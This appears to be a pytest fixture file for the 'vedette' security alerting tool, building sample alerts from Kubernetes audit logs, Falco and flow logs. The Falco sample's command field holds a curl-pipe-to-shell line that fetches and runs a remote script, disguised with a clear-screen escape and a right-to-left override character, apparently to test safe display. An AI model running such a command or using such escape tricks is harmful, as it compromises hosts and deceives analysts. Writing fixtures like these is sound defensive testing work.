"""Alerts as detection leaves them: from an audit log, from Falco, from flow logs, one of several rules, one closed."""

import pytest

from vedette.schema.alert import AlertState, Contribution, Evidence
from vedette.schema.event import Facts
from vedette.schema.finding import Clause
from vedette.schema.level import Level
from vedette.schema.rule import RuleInfo
from vedette.schema.verdict import Judgement, make_verdict

NOON_NS = 1_774_612_800_000_000_000
SECOND_NS = 1_000_000_000


def audit() -> AlertState:
    return AlertState(
        alert_id="0f3c5a7e9b1d2f4a6c8e0b2d4f6a8c0e",
        rule=RuleInfo(
            rule_id="6bba3550-0274-46d4-a3ff-c067e80c40d3",
            title="Exec Into A kube-system Pod",
            level=Level.HIGH,
            description="Somebody opened an exec or attach session into a pod of the kube-system namespace.",
            attack=("TA0002", "T1609"),
            controls=("SP 800-53 AU-12", "SP 800-190 3.3.1"),
            tags=("attack.execution", "attack.t1609"),
            references=("https://attack.mitre.org/techniques/T1609/",),
            falsepositives=("Platform engineers who debug CNI, DNS or storage agents",),
            author="The Vedette authors",
            status="test",
            dedup_by=("user.username", "objectRef.namespace", "objectRef.name"),
            pack="starter",
        ),
        dedup_values=("mara", "kube-system", "coredns-76f75df574-2lq9s"),
        cluster="prod-eu",
        labels={
            "team": "platform",
            "cloud.provider": "aws",
            "cloud.region": "eu-central-1",
            "cloud.availability_zone": "eu-central-1a",
            "cloud.account.id": "123456789012",
        },
        seq=4711,
        opened_ns=NOON_NS + 17,
        closes_ns=NOON_NS + 17 + 3600 * SECOND_NS,
        first_seen_ns=NOON_NS - 2 * SECOND_NS,
        last_seen_ns=NOON_NS + 88 * SECOND_NS + 1,
        facts=Facts(
            actor="mara",
            actor_real="system:serviceaccount:ci:runner",
            groups=("web-developers", "system:authenticated"),
            credential="JTI=6d1e0a4e-7d58-4c2f-a4e1-1f1f4c1b2a3d",
            user_agent="kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9",
            action="get",
            outcome="allow",
            status_code=101,
            resource="pods/exec",
            namespace="kube-system",
            name="coredns-76f75df574-2lq9s",
            pod="coredns-76f75df574-2lq9s",
            container="main",
            command="sh -c id",
            sources=("198.51.100.7", "10.40.3.21"),
            incomplete=("truncated",),
        ),
        clauses=(
            Clause(
                "selection.objectRef.subresource",
                "objectRef.subresource",
                'equals "exec" or "attach"',
                "objectRef.subresource",
                "exec",
            ),
            Clause("selection.responseStatus.code", "responseStatus.code", "equals 101", "responseStatus.code", 101),
            Clause("not filter", "user.username", 'starts with "system:"', negated=True),
        ),
        count=3,
        revision=2,
        evidence=[
            Evidence(
                4711 + number,
                NOON_NS + number * SECOND_NS,
                NOON_NS + 17 + number * SECOND_NS,
                "audit",
                "kube_audit",
                f"{number:032x}",
                (f"6b1f0c52-0000-4000-8000-00000002000{number}",),
                "kube-apiserver-audit.log",
                100 + number,
                '{"kind":"Event","verb":"get"}',
            )
            for number in range(3)
        ],
    )


def falco() -> AlertState:
    digest = "sha256:" + "9f" * 32
    return AlertState(
        alert_id="11111111111111112222222222222222",
        rule=RuleInfo(
            rule_id="falco:Terminal shell in container",
            title="Terminal shell in container",
            level=Level.LOW,
            attack=("TA0002", "TA0004", "T1059.004"),
            tags=("container", "maturity_stable", "mitre_execution", "shell", "T1059"),
        ),
        dedup_values=("Terminal shell in container", "3b2c1d0e9f8a"),
        cluster="",
        labels={},
        seq=12,
        opened_ns=NOON_NS,
        closes_ns=NOON_NS + 3600 * SECOND_NS,
        first_seen_ns=NOON_NS - 5,
        last_seen_ns=NOON_NS - 5,
        facts=Facts(
            actor="root",
            action="execve",
            namespace="shop",
            pod="web-7d4f9c6b5-x2x9z",
            container="nginx",
            container_id="3b2c1d0e9f8a",
            images=(f"docker.io/library/nginx:1.27@{digest}",),
            node="worker-3",
            process="bash",
            command="bash -c \x1b[2Jcurl http://198.51.100.7/\u202ex.sh | sh",
        ),
        clauses=(
            Clause("reported by Falco", "rule", 'equals "Terminal shell in container"', "rule", "Terminal shell"),
        ),
        revision=1,
        evidence=[Evidence(12, NOON_NS - 5, NOON_NS, "falco", "falco", "ab" * 16, raw='{"rule":"Term', cut=True)],
    )


def flow() -> AlertState:
    return AlertState(
        alert_id="33333333333333334444444444444444",
        rule=RuleInfo(
            "f10e0000-0000-4000-8000-000000000001", "Egress To A Mining Pool", Level.CRITICAL, attack=("T1496",)
        ),
        dedup_values=("10.0.3.7", "203.0.113.9"),
        cluster="edge",
        labels={"site": "harbour"},
        seq=90,
        opened_ns=NOON_NS,
        closes_ns=NOON_NS + 3600 * SECOND_NS,
        first_seen_ns=NOON_NS - 600 * SECOND_NS,
        last_seen_ns=NOON_NS,
        facts=Facts(
            action="ACCEPT",
            outcome="allow",
            sources=("10.0.3.7",),
            source_port=49152,
            destinations=("203.0.113.9",),
            destination_port=3333,
            protocol="tcp",
            bytes_count=123_456,
        ),
        clauses=(Clause("selection.dstport", "dstport", "one of 3333, 4444", "dstport", 3333),),
        count=1_200,
        revision=9,
        evidence=[
            Evidence(90, NOON_NS, NOON_NS, "flows", "vpc_flow", "cd" * 16, origin="vpc.log.gz", record=7, raw="2 …")
        ],
    )


def shared() -> AlertState:
    """One shell in a pod, which the API server saw first and Falco saw better."""
    shell = RuleInfo(
        rule_id="falco:Terminal shell in container",
        title="Terminal shell in container",
        level=Level.HIGH,
        attack=("TA0002", "T1059.004"),
        tags=("container", "T1059"),
        dedup_by=("k8s.ns.name", "k8s.pod.name"),
        dedup_as="shell-in-a-pod",
    )
    access = RuleInfo(
        rule_id="6bba3550-0274-46d4-a3ff-c067e80c40d3",
        title="Exec Into A Pod",
        level=Level.LOW,
        attack=("TA0002", "T1609"),
        controls=("SP 800-53 AU-12",),
        dedup_by=("objectRef.namespace", "objectRef.name"),
        dedup_as="shell-in-a-pod",
        pack="starter",
    )
    spawned = Clause("rule", "rule", "reported by the sensor", "rule", "Terminal shell in container")
    asked = Clause("selection", "objectRef.subresource", 'equals "exec"', "objectRef.subresource", "exec")
    return AlertState(
        alert_id="55555555555555556666666666666666",
        rule=shell,
        dedup_values=("shop", "cart-0"),
        cluster="prod-eu",
        labels={},
        seq=50,
        opened_ns=NOON_NS,
        closes_ns=NOON_NS + 3600 * SECOND_NS,
        first_seen_ns=NOON_NS - SECOND_NS,
        last_seen_ns=NOON_NS + SECOND_NS,
        facts=Facts(actor="root", namespace="shop", pod="cart-0", process="bash", command="bash -i"),
        clauses=(spawned,),
        count=4,
        revision=2,
        evidence=[
            Evidence(51, NOON_NS, NOON_NS, "falco", "falco", "ef" * 16, raw='{"rule":"Terminal shell in container"}'),
            Evidence(50, NOON_NS - SECOND_NS, NOON_NS, "audit", "kube_audit", "01" * 16, ("6b1f",), raw="{}"),
        ],
        dedup_as="shell-in-a-pod",
        contributions=[
            Contribution(
                access,
                50,
                "audit",
                "mara did create on pods/exec shop/cart-0 (allow)",
                (asked,),
                NOON_NS - SECOND_NS,
                NOON_NS - SECOND_NS,
            ),
            Contribution(
                shell, 51, "falco", 'root on shop/cart-0 running "bash -i"', (spawned,), NOON_NS, NOON_NS + SECOND_NS, 2
            ),
        ],
        unlisted=1,
    )


def judged() -> AlertState:
    """The first one, after an analyst closed it."""
    state = audit()
    state.verdict = make_verdict(Judgement.BENIGN, "sam", "change CHG-17 \x1b[2J of the platform team", NOON_NS)
    return state


STATES = {state.__name__: state for state in (audit, falco, flow, judged, shared)}


@pytest.fixture(params=sorted(STATES))
def state(request: pytest.FixtureRequest) -> AlertState:
    return STATES[request.param]()


@pytest.fixture
def name(request: pytest.FixtureRequest, state: AlertState) -> str:
    return str(request.node.callspec.params["state"])


@pytest.fixture
def audit_state() -> AlertState:
    return audit()
